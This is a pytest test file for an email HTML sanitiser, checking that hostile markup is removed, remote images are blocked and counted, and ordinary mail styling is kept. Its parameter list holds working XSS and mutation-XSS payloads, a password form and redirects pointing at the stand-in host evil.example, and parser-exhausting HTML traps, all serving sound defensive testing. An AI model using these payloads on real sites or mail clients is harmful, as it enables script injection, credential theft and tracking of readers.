"""What is left of hostile HTML, and what is kept of ordinary mail."""

import time

import pytest

from shared.mail.html import SafeHtml, sanitise
from shared.mail.html_apart import HTML_MAX_CHARACTERS, is_harmless, safe_html


def safe(html: str, *, remote_images: bool = False) -> str:
    return sanitise(html, remote_images=remote_images).html


@pytest.mark.parametrize(
    "html",
    [
        "<script>alert(1)</script>",
        "<svg><script>alert(1)</script></svg>",
        "<svg onload=alert(1)>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
        "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
        "<img src=x onerror=alert(1)>",
        "<body onload=alert(1)>",
        "<a href='javascript:alert(1)'>x</a>",
        "<a href='java\nscript:alert(1)'>x</a>",
        "<a href='&#106;avascript:alert(1)'>x</a>",
        "<a href=' javascript:alert(1)'>x</a>",
        "<a href='vbscript:alert(1)'>x</a>",
        "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
        "<iframe src='https://evil.example'></iframe>",
        "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
        "<object data='https://evil.example'></object><embed src='https://evil.example'>",
        "<form action='https://evil.example'><input name=password><button>go</button></form>",
        "<meta http-equiv=refresh content='0;url=https://evil.example'>",
        "<base href='https://evil.example/'>",
        "<link rel=stylesheet href='https://evil.example/x.css'>",
        "<style>@import 'https://evil.example/x.css';</style>",
        "<div style='background:url(javascript:alert(1))'>x</div>",
        "<div style='width:expression(alert(1))'>x</div>",
        "<div style='behavior:url(https://evil.example/x.htc)'>x</div>",
        "<div style='b\\61 ckground:u\\72l(https://evil.example/x)'>x</div>",
        "<div style='background:/**/url(https://evil.example/x)'>x</div>",
        "<div style='background:image-set(\"https://evil.example/x\" 1x)'>x</div>",
        "<div style='position:fixed;top:0;left:0;z-index:9999'>x</div>",
        "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
        "<img srcset='https://evil.example/x 1x'>",
        "<picture><source srcset='https://evil.example/x'></picture>",
        "<video src='https://evil.example/x' poster='https://evil.example/y'></video>",
        "<audio src='https://evil.example/x'></audio>",
        "<input type=image src='https://evil.example/x'>",
        "<table background='https://evil.example/x'><tr><td>x</td></tr></table>",
        "<img src='//evil.example/x'>",
        "<img src='/api/auth/logout'>",
        "<a href='/api/auth/logout'>x</a>",
        "<p id=root class=login>x</p>",
        "<template><img src=x onerror=alert(1)></template>",
        "<textarea><img src=x onerror=alert(1)></textarea>",
        "<!--[if mso]><script>alert(1)</script><![endif]-->",
    ],
)
def test_nothing_of_an_attack_is_left(html: str) -> None:
    left = safe(html).lower()
    for word in ("alert", "script", "evil.example", "onerror", "position", "/api/", "id=", "class=", "svg", "<form"):
        assert word not in left


def test_remote_images_are_taken_out_and_counted() -> None:
    html = (
        "<img src='https://t.example/1.png' srcset='https://t.example/2.png 2x'><img src='//t.example/3.png'>"
        "<td background='https://t.example/4.png'></td><p style='background-image:url(https://t.example/5.png)'>x</p>"
        "<table background='https://t.example/6.png'><tr><td>y</td></tr></table>"
    )
    result = sanitise(html, remote_images=False)
    assert "t.example" not in result.html
    assert result.remote_images_blocked == 4  # a cell without a table is no element


def test_remote_images_are_kept_when_the_reader_asks_for_them() -> None:
    html = "<img src='https://t.example/1.png'><img src='//t.example/2.png'><p style='background:url(http://t.example/3.png)'>x</p>"
    result = sanitise(html, remote_images=True)
    assert result.remote_images_blocked == 0
    assert 'src="https://t.example/1.png"' in result.html
    assert 'src="https://t.example/2.png"' in result.html
    assert "url(http://t.example/3.png)" in result.html


def test_images_inside_the_message_are_kept_and_not_counted() -> None:
    result = sanitise("<img src='cid:logo@contoso'><img src='data:image/png;base64,AAAA'>", remote_images=False)
    assert result == SafeHtml('<img src="cid:logo@contoso"><img src="data:image/png;base64,AAAA">', 0)


def test_links_open_apart_and_tell_the_other_side_nothing() -> None:
    link = safe("<a href='https://contoso.example/a?b=c' target=_top rel=opener>x</a>")
    assert 'href="https://contoso.example/a?b=c"' in link
    assert 'target="_blank"' in link
    assert 'rel="noopener noreferrer nofollow"' in link


def test_ordinary_mail_keeps_its_look() -> None:
    html = (
        '<table width="600" cellpadding="0"><tbody><tr><td style="color:#333;font-family:\'Segoe UI\',sans-serif;'
        'padding:4px;width:calc(100% - 8px);background-color:rgb(1, 2, 3)">Hello</td></tr></tbody></table>'
    )
    kept = safe(html)
    for part in ("color:#333", "font-family:'Segoe UI',sans-serif", "padding:4px", "calc(100% - 8px)", "rgb(1, 2, 3)"):
        assert part in kept
    assert 'width="600"' in kept
    assert 'cellpadding="0"' in kept


async def test_html_over_the_limit_is_shown_as_its_text() -> None:
    shown = await safe_html("<p>" * HTML_MAX_CHARACTERS, "1 < 2", remote_images=False)
    assert shown == SafeHtml("<pre>1 &lt; 2</pre>", 0)


REPAIRED_WITHOUT_END = "<p>" + "".join(f"<b id={n}>" for n in range(250)) + "</p>" + "<p>x</p>" * 20_000
SEARCHED_WITHOUT_END = "<table><tr><td>" * 1_000 + "<div>" * 60_000 + "<p></div>" * 60_000


@pytest.mark.parametrize("trap", [REPAIRED_WITHOUT_END, SEARCHED_WITHOUT_END], ids=["repairs", "depth"])
async def test_html_that_would_take_all_memory_or_time_ends_soon(trap: str) -> None:
    assert not is_harmless(trap)
    started = time.monotonic()
    shown = await safe_html(trap, "the text", remote_images=False)
    assert time.monotonic() - started < 20
    assert len(shown.html) < 4_000_000


async def test_long_but_honest_html_is_sanitised_in_its_own_process() -> None:
    html = "<table>" + "<tr><td><b>x</b><img src='https://t.example/1.png'></td></tr>" * 3_000 + "</table>"
    assert not is_harmless(html)
    assert await safe_html(html, "the text", remote_images=False) == sanitise(html, remote_images=False)
